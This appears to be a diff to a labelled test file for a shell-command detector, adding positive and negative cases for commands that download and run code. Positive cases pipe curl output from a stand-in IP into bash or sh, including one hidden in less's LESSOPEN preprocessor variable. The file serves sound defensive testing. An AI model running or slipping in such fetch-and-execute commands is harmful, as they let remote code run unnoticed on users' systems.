@@ -154,3 +154,7 @@ declare -A tool=([fetch]=curl [run]=bash)
 t=(curl bash); "${t[0]}" -s http://203.0.113.31/b | "${t[1]}"
 #@ neg an indexed array's second element is a pager
 t=(curl less); "${t[0]}" -s https://example.com/ | "${t[1]}"
+#@ pos less's input preprocessor downloads and runs code
+LESSOPEN='|curl -s http://203.0.113.5/p | sh # %s' less /etc/hostname
+#@ neg less's usual input preprocessor
+export LESSOPEN='| /usr/bin/lesspipe %s'
